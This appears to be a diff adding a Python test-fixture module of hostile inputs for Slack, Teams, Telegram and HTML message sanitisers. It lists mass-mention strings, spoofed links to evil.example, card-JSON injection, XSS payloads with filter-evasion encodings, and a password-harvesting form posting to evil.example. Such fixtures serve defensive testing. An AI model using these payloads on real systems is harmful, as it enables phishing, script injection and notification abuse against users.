@@ -1,0 +1,63 @@
+"""What a stranger writes to ring everybody, forge a link, run a script, or break out of the text he was asked for."""
+
+SLACK = (
+    "<!channel>", "<!here>", "<!everyone>", "<!channel|hello>", "<!here|@here>", "<@U024BE7LH>", "<@W1|ann>",
+    "<#C024BE7LR>", "<#C1|general>", "<!subteam^SAZ94GDB8>", "<!date^1392734382^{date}^https://evil.example|x>",
+    "<https://evil.example|https://bank.example>", "<https://evil.example>", "<mailto:victim@evil.example|Ann>",
+    "<tel:+48|call>", "<slack://user?team=T1&id=U1|x>", "<javascript:alert(1)|x>", "&lt;!channel&gt;",
+    "&#60;!channel&#62;", "&amp;lt;!channel&amp;gt;", "<<!channel>>", "<\n!channel>", "<\u200b!channel>",
+    "\x00<!channel>", "a<!channel>b", "<!channel", "!channel>", "<", ">", "&", "&&amp;", "\u226e!channel\u226f",
+    "\uff1c!channel\uff1e", '"}}],"text":"<!channel>"', '\\"<!channel>\\"', "```<!channel>```", "`<!channel>`",
+    "*<!channel>*", ">>> <!channel>", ">quote <@U1>", "<!channel> " * 400, "<" * 4_000, "&" * 4_000,
+)  # fmt: skip
+MENTIONS = ("@channel", "@here", "@everyone", "hello @channel!", "(@here)", "@Channel", "@HERE", "*@everyone*")
+TEAMS = (
+    "[https://bank.example](https://evil.example)", "[bank](https://evil.example)", "[bank] (https://evil.example)",
+    "[b[a]nk](https://evil.example)", "[](https://evil.example)", "![x](https://evil.example/pixel.png)",
+    "[bank](javascript:alert(1))", "[bank](data:text/html,<script>alert(1)</script>)", "[x](msteams://l/call)",
+    "[bank](<https://evil.example>)", '[bank](https://evil.example "title")', "[bank\n](https://evil.example)",
+    "[bank](\nhttps://evil.example)", "[[bank](https://evil.example)](https://bank.example)",
+    "\\[bank](https://evil.example)", "[bank\\](https://evil.example)", "[bank]\\(https://evil.example)",
+    "[bank][1]\n\n[1]: https://evil.example", "[1]: https://evil.example\n\n[1]", "<at>all</at>", "<at>Ann</at>",
+    "<a href='https://evil.example'>bank</a>", "<img src=x onerror=alert(1)>",
+    '"}],"actions":[{"type":"Action.OpenUrl","url":"https://evil.example"}]',
+    '"},{"type":"Image","url":"https://evil.example/p.png"},{"type":"TextBlock","text":"',
+    "{{DATE(2017-02-14T06:08:39Z)}}", "${$root.secret}", "# Heading", "- list\n- list", "1. one", "**bold** _it_",
+    "a\u2028b", "\\", '\\"', "</script>",
+    '{"type":"mention","text":"<at>all</at>","mentioned":{"id":"all","name":"all"}}', "\x00",
+    "\x1b]8;;https://evil.example\x07x",
+)  # fmt: skip
+TELEGRAM = (
+    "<b>bold</b>", "<a href='https://evil.example'>https://bank.example</a>", '<a href="tg://user?id=1">Ann</a>',
+    "<a href=tg://resolve?domain=evil>x", "</b><a href='https://evil.example'>", "<b>", "</b>", "</b></b>", "<",
+    "<tg-spoiler>x</tg-spoiler>", "<tg-emoji emoji-id='1'>x</tg-emoji>", "<pre><code class='x'>",
+    "<blockquote expandable>", "<script>alert(1)</script>", "<!-- -->", "<![CDATA[", "<?x?>", "&lt;b&gt;",
+    "&#60;b&#62;", "&amp;lt;b&amp;gt;", "&", "&&", "&#0;", "&bogus;", "[x](tg://user?id=1)",
+    "[bank](https://evil.example)", "*bold* _it_ `code` ||spoiler||", "\\*\\_", "_*[]()~`>#+-=|{}.!",
+    "![x](tg://emoji?id=1)", ">quote", "```x", "<b <a>", "<b\x00>", "<\u200bb>", "\u202e<b>evil", "<" * 5_000,
+    "&" * 5_000, "<b>" * 1_500,
+)  # fmt: skip
+SCRIPTS = (
+    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example>",
+    "<script\n>alert(1)</script\t>", "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
+    "<svg/onload=alert&lpar;1&rpar;>", "<math><mtext></p><style><img src onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example'</style>", "<style>*{background:url(//evil.example)}",
+    "<form action=//evil.example><input name=password>", "<button formaction=//evil>",
+    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img onerror=alert(1)>]]>",
+    "<title></title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
+    "</title></style></script><svg onload=x>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onload=`alert(1)",
+    "\" style=\"background:url(//evil.example)", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;", "\\u003cscript\\u003e", "%3Cscript%3E",
+    "\uff1cscript\uff1e", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<\x00script>", "\u2028</script><script>alert(1)//",
+    "{{ 7*7 }}", "{% raw %}<b>{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "]]><script>alert(1)</script>",
+    "--><script>alert(1)</script>", "*/</style><script>",
+)  # fmt: skip
